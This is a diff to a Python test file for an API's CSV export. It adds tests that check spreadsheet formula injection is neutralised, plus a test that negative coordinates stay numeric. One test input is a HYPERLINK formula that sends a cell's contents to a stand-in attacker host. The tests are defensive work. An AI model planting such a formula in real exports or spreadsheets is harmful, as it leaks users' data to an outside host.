@@ -94,3 +94,28 @@ def test_export_with_a_bad_filter_answers_a_json_400(api, db):
 def test_other_endpoints_have_no_csv(api, world):
     assert api.get("/api/v1/press-releases.csv").status_code == 404
     assert api.get("/api/v1/themes/?format=csv").status_code == 404
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+
+
+@pytest.mark.parametrize("name", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"])
+def test_cells_that_a_spreadsheet_would_run_are_neutralised(api, db, name):
+    site = CooperationSiteFactory(name_fr=name, name_en="Safe name")
+
+    [row] = rows(api.get("/api/v1/sites.csv"))
+
+    assert row["name_fr"] == "'" + name
+    assert row["name_en"] == "Safe name"
+    json = api.get(f"/api/v1/sites/{site.slug_fr}/")
+    assert json.status_code == 200
+    assert json.json()["name"]["fr"] == name
+
+
+def test_negative_numbers_stay_numbers(api, world):
+    world["places"].latitude, world["places"].longitude = -33.87, -151.21
+    world["places"].save()
+
+    [row] = rows(api.get("/api/v1/sites.csv"))
+
+    assert (row["latitude"], row["longitude"]) == ("-33.87", "-151.21")
